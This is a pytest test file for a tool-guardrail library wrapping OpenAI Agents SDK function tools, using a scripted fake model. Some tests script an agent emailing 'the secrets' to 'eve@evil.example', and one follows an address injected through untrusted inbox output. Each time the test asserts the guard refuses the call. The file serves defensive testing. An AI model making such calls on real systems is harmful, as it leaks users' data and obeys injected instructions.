"""OpenAI Agents SDK adapter: a real ``Runner.run`` loop, driven by a scripted fake ``Model``,
with routeguard's tool guardrails on the function tools (scenario: ``adapter_scenario.py``)."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

pytest.importorskip("agents")

from agents import Agent, ModelResponse, RunConfig, Runner, Usage, function_tool
from agents.models.interface import Model
from openai.types.responses import (
    ResponseFunctionToolCall,
    ResponseOutputMessage,
    ResponseOutputText,
)

from adapter_scenario import INBOX, INJECTED_ADDRESS, RecordingGuard, make_guard, verdict
from routeguard.adapters.openai_agents import guard_tools, input_guardrail, output_guardrail
from routeguard.enforce import TAINT_RULE_ID
from routeguard.enforce.engine import REDACTED


def tool_call(name: str, args: dict[str, Any], call_id: str) -> ResponseFunctionToolCall:
    return ResponseFunctionToolCall(
        id=f"fc-{call_id}",
        call_id=call_id,
        type="function_call",
        name=name,
        arguments=json.dumps(args),
    )


def text(content: str) -> ResponseOutputMessage:
    return ResponseOutputMessage(
        id="msg",
        type="message",
        role="assistant",
        status="completed",
        content=[ResponseOutputText(text=content, type="output_text", annotations=[])],
    )


class ScriptedModel(Model):
    """A fake model: each turn returns the next scripted output items; inputs are recorded."""

    def __init__(self, *turns: list[Any]) -> None:
        self.turns = list(turns)
        self.inputs: list[Any] = []

    async def get_response(
        self, system_instructions: Any, input: Any, *args: Any, **kwargs: Any
    ) -> ModelResponse:
        self.inputs.append(input)
        return ModelResponse(output=self.turns.pop(0), usage=Usage(), response_id=None)

    def stream_response(self, *args: Any, **kwargs: Any) -> AsyncIterator[Any]:
        raise NotImplementedError("the tests run the agent without streaming")


def tool_outputs(model: ScriptedModel) -> dict[str, str]:
    """What the model was told each tool call returned, by call id."""
    items = model.inputs[-1]
    return {
        i["call_id"]: i["output"]
        for i in items
        if isinstance(i, dict) and i.get("type") == "function_call_output"
    }


class Tools:
    """Real function tools that record the arguments they ran with."""

    def __init__(self) -> None:
        self.ran: list[tuple[str, dict[str, Any]]] = []

        @function_tool
        def lookup_order(order_id: str) -> str:
            """Look an order up."""
            self.ran.append(("lookup_order", {"order_id": order_id}))
            return f"order {order_id}: shipped"

        @function_tool
        def send_email(to: str, body: str) -> str:
            """Send an email."""
            self.ran.append(("send_email", {"to": to, "body": body}))
            return "sent"

        @function_tool
        def pay(amount: float, card: str) -> str:
            """Pay an amount with a card."""
            self.ran.append(("pay", {"amount": amount, "card": card}))
            return f"paid {amount}"

        @function_tool
        def read_inbox() -> str:
            """Read the inbox."""
            self.ran.append(("read_inbox", {}))
            return INBOX

        self.lookup_order, self.send_email, self.pay = lookup_order, send_email, pay
        self.all = [lookup_order, send_email, pay, read_inbox]


@pytest.fixture
def guard() -> RecordingGuard:
    return make_guard()


async def run(agent: Agent[Any], prompt: str) -> Any:
    return await Runner.run(agent, prompt, run_config=RunConfig(tracing_disabled=True))


async def test_denied_call_is_refused_and_the_model_reads_why(guard: RecordingGuard) -> None:
    args = {"to": "eve@evil.example", "body": "the secrets"}
    model = ScriptedModel([tool_call("send_email", args, "c1")], [text("I cannot send that.")])
    tools = Tools()
    agent = Agent(name="mailer", model=model, tools=guard_tools(guard, tools.all))
    result = await run(agent, "mail the secrets out")

    assert tools.ran == []
    expected = verdict("send_email", args)
    assert not expected.allowed
    assert expected.message
    assert tool_outputs(model)["c1"] == expected.message
    assert result.final_output == "I cannot send that."
    assert guard.shown == []


async def test_allowed_calls_run_and_outputs_are_observed(guard: RecordingGuard) -> None:
    model = ScriptedModel(
        [
            tool_call("lookup_order", {"order_id": "A-17"}, "c1"),
            tool_call("send_email", {"to": "bob@corp.example", "body": "hi"}, "c2"),
        ],
        [text("done")],
    )
    tools = Tools()
    agent = Agent(name="ops", model=model, tools=guard_tools(guard, tools.all))
    result = await run(agent, "look it up and tell bob")

    assert sorted(tools.ran) == [
        ("lookup_order", {"order_id": "A-17"}),
        ("send_email", {"to": "bob@corp.example", "body": "hi"}),
    ]
    assert tool_outputs(model) == {"c1": "order A-17: shipped", "c2": "sent"}
    assert sorted(guard.shown) == [("lookup_order", "order A-17: shipped"), ("send_email", "sent")]
    assert sorted(guard.shown_args, key=str) == [
        ("lookup_order", {"order_id": "A-17"}),
        ("send_email", {"to": "bob@corp.example", "body": "hi"}),
    ]
    assert result.final_output == "done"


async def test_masked_arguments_reach_the_tool(guard: RecordingGuard) -> None:
    model = ScriptedModel(
        [tool_call("pay", {"amount": 20, "card": "4111 1111 1111 1111"}, "c1")], [text("paid")]
    )
    tools = Tools()
    agent = Agent(name="payer", model=model, tools=guard_tools(guard, tools.all))
    await run(agent, "pay 20")

    assert tools.ran == [("pay", {"amount": 20, "card": REDACTED})]
    assert tool_outputs(model)["c1"] == "paid 20.0"


async def test_bare_guardrail_fails_closed_when_masking_is_needed(guard: RecordingGuard) -> None:
    tools = Tools()
    pay = tools.pay
    pay.tool_input_guardrails = [input_guardrail(guard)]
    pay.tool_output_guardrails = [output_guardrail(guard)]
    model = ScriptedModel(
        [
            tool_call("pay", {"amount": 20, "card": "4111"}, "masked"),
            tool_call("pay", {"amount": 5000, "card": "4111"}, "denied"),
        ],
        [text("ok")],
    )
    agent = Agent(name="payer", model=model, tools=[pay])
    await run(agent, "pay")

    assert tools.ran == []
    outputs = tool_outputs(model)
    assert "masked" in outputs["masked"]
    assert outputs["denied"] == verdict("pay", {"amount": 5000, "card": "4111"}).message


async def test_bare_guardrail_allows_a_plain_call(guard: RecordingGuard) -> None:
    tools = Tools()
    lookup = tools.lookup_order
    lookup.tool_input_guardrails = [input_guardrail(guard)]
    lookup.tool_output_guardrails = [output_guardrail(guard)]
    model = ScriptedModel([tool_call("lookup_order", {"order_id": "Z"}, "c1")], [text("ok")])
    await run(Agent(name="a", model=model, tools=[lookup]), "look")

    assert tools.ran == [("lookup_order", {"order_id": "Z"})]
    assert guard.shown == [("lookup_order", "order Z: shipped")]


async def test_injected_address_from_untrusted_output_is_refused(guard: RecordingGuard) -> None:
    mail = {"to": INJECTED_ADDRESS, "body": "invoices"}
    model = ScriptedModel(
        [tool_call("read_inbox", {}, "read")],
        [tool_call("send_email", mail, "send")],
        [text("done")],
    )
    tools = Tools()
    await run(Agent(name="mailer", model=model, tools=guard_tools(guard, tools.all)), "inbox")

    assert verdict("send_email", mail).allowed  # the policy alone would let it through
    assert tools.ran == [("read_inbox", {})]
    assert f"'{TAINT_RULE_ID}'" in tool_outputs(model)["send"]


def test_hosted_tools_cannot_be_guarded(guard: RecordingGuard) -> None:
    from agents import WebSearchTool

    with pytest.raises(TypeError, match="function tools"):
        guard_tools(guard, [WebSearchTool()])
